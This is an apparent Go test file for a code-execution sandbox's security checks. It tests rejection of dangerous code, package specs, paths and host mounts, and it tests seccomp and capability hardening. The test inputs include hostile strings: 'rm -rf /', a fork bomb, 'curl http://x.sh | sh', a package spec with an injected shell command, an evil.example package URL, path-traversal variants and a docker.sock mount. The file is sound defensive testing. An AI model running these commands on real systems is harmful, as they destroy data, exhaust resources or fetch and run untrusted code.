package security

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sandboxd/sandboxd/internal/errdefs"
)

func TestValidateCodeBlocksDangerousPython(t *testing.T) {
	cases := []string{
		"import os\nprint(os.listdir('/'))",
		"from os import path",
		"import subprocess",
		"eval('1+1')",
		"exec('x = 1')",
		"__import__('os')",
		"compile('x', 'f', 'exec')",
		"open('/etc/passwd', 'w')",
		"x.system('ls')",
		"x.popen('ls')",
	}
	for _, code := range cases {
		err := ValidateCode("python", code)
		require.Error(t, err, "expected block: %q", code)
		assert.True(t, errors.Is(err, errdefs.ErrSecurity))
	}
}

func TestValidateCodeAllowsBenignPython(t *testing.T) {
	assert.NoError(t, ValidateCode("python", "print(2+2)"))
	assert.NoError(t, ValidateCode("python", "import math\nprint(math.pi)"))
	// Reading a file is fine; only write modes are blocked.
	assert.NoError(t, ValidateCode("python", "open('data.txt', 'r').read()"))
}

func TestValidateCodePerLanguage(t *testing.T) {
	assert.Error(t, ValidateCode("javascript", "require('child_process')"))
	assert.Error(t, ValidateCode("javascript", "process.exit(1)"))
	assert.Error(t, ValidateCode("typescript", "import {exec} from 'child_process'"))
	assert.Error(t, ValidateCode("go", `import "os/exec"`))
	assert.Error(t, ValidateCode("go", "exec.Command(\"ls\")"))
	assert.Error(t, ValidateCode("rust", "use std::process::Command;"))
	assert.Error(t, ValidateCode("rust", "unsafe { ptr.read() }"))
	assert.Error(t, ValidateCode("bash", "rm -rf /"))
	assert.Error(t, ValidateCode("bash", ":(){ :|:& };:"))
	assert.Error(t, ValidateCode("bash", "curl http://x.sh | sh"))

	assert.NoError(t, ValidateCode("javascript", "console.log(1+1)"))
	assert.NoError(t, ValidateCode("go", `fmt.Println("hi")`))
	assert.NoError(t, ValidateCode("bash", "echo hello"))
}

func TestValidatePackages(t *testing.T) {
	assert.NoError(t, ValidatePackages("python", []string{"requests", "numpy==1.26.0", "flask>=2.0"}))
	assert.NoError(t, ValidatePackages("javascript", []string{"lodash", "@types/node@20.1.0"}))

	assert.Error(t, ValidatePackages("python", []string{"os"}))
	assert.Error(t, ValidatePackages("python", []string{"requests; rm -rf /"}))
	assert.Error(t, ValidatePackages("javascript", []string{"git+https://example.com/x.git"}))
	assert.Error(t, ValidatePackages("python", []string{"../local/path"}))
	assert.Error(t, ValidatePackages("python", []string{"https://evil.example/pkg.tar.gz"}))
	assert.Error(t, ValidatePackages("go", []string{"os/exec"}))

	long := make([]byte, 201)
	for i := range long {
		long[i] = 'a'
	}
	assert.Error(t, ValidatePackages("python", []string{string(long)}))
}

func TestValidatePackagesStripsExtras(t *testing.T) {
	assert.NoError(t, ValidatePackages("python", []string{"requests[socks]==2.31.0"}))
}

func TestSanitizePath(t *testing.T) {
	for _, bad := range []string{
		"..",
		"/etc/passwd",
		"%2e%2e/x",
		"%252e%252e/x",
		"a/../../etc",
		"./x",
		"a\x00b",
	} {
		_, err := SanitizePath(bad)
		require.Error(t, err, "expected rejection: %q", bad)
		assert.True(t, errors.Is(err, errdefs.ErrSecurity), "%q", bad)
	}

	got, err := SanitizePath("data/out.txt")
	require.NoError(t, err)
	assert.Equal(t, "/workspace/data/out.txt", got)

	got, err = SanitizePath("/workspace/a.py")
	require.NoError(t, err)
	assert.Equal(t, "/workspace/a.py", got)

	got, err = SanitizePath("/workspace")
	require.NoError(t, err)
	assert.Equal(t, WorkspaceRoot, got)
}

func TestSanitizeWriteAndDeleteRejectRoot(t *testing.T) {
	_, err := SanitizeWritePath("/workspace")
	assert.Error(t, err)
	_, err = SanitizeDeletePath("/workspace")
	assert.Error(t, err)

	_, err = SanitizeWritePath("/workspace/file.txt")
	assert.NoError(t, err)
}

func TestValidateMounts(t *testing.T) {
	err := ValidateMounts([]Mount{{HostPath: "/var/run/docker.sock", ContainerPath: "/w"}})
	require.Error(t, err)
	assert.True(t, errors.Is(err, errdefs.ErrSecurity))

	assert.Error(t, ValidateMounts([]Mount{{HostPath: "/etc", ContainerPath: "/workspace/etc"}}))
	assert.Error(t, ValidateMounts([]Mount{{HostPath: "/lib64/x", ContainerPath: "/workspace/x"}}))
	assert.Error(t, ValidateMounts([]Mount{{HostPath: "/srv/data", ContainerPath: "/other"}}))
	assert.NoError(t, ValidateMounts([]Mount{{HostPath: "/tmp/share", ContainerPath: "/data/share"}}))
}

func TestBuildHardening(t *testing.T) {
	h, err := BuildHardening(LevelStrict, "python")
	require.NoError(t, err)
	assert.True(t, h.ReadOnlyRoot)
	assert.Equal(t, []string{"ALL"}, h.CapDrop)
	assert.Empty(t, h.CapAdd)
	assert.Contains(t, h.SeccompJSON, "shmget")
	assert.Contains(t, h.SeccompJSON, "SCMP_ACT_KILL")
	assert.Contains(t, h.SeccompJSON, "ptrace")
	assert.Equal(t, "1000:1000", h.User)
	assert.Contains(t, h.Tmpfs, "/workspace")

	std, err := BuildHardening(LevelStandard, "go")
	require.NoError(t, err)
	assert.False(t, std.ReadOnlyRoot)
	assert.Contains(t, std.CapAdd, "CHOWN")
	assert.NotContains(t, std.SeccompJSON, "shmget")

	_, err = BuildHardening(Level("bogus"), "python")
	assert.Error(t, err)
}
